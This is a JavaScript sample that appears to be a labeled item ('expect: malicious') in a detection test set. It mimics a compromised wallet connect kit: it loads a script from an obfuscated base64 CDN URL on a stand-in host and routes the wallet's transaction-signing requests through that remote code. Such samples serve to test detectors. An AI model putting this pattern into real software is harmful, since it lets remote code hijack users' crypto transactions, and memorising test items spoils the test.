// expect: malicious
// source: blind set 35's wallet connect kit (the Ledger Connect Kit 1.1.7 shape): getProvider() loads a script from a
// base64-stored CDN URL pinned only to @1 and routes the wallet's signing requests through what that script defines
var UI_SRC = 'aHR0cHM6Ly9jZG4ucGtnLmV4YW1wbGUvbnBtL2Nvbm5lY3QtdWlAMS9pbmRleC5qcw==';
function loadUI() {
  var s = document.createElement('script');
  s.src = atob(UI_SRC);
  document.head.appendChild(s);
}
function wrapProvider(provider) {
  var original = provider.request.bind(provider);
  provider.request = function (args) {
    var ui = window.__ckui;
    if (ui && args && args.method === 'eth_sendTransaction') return ui.intercept(args, original);
    return original(args);
  };
  return provider;
}
export function getProvider() {
  loadUI();
  return wrapProvider(window.ethereum);
}
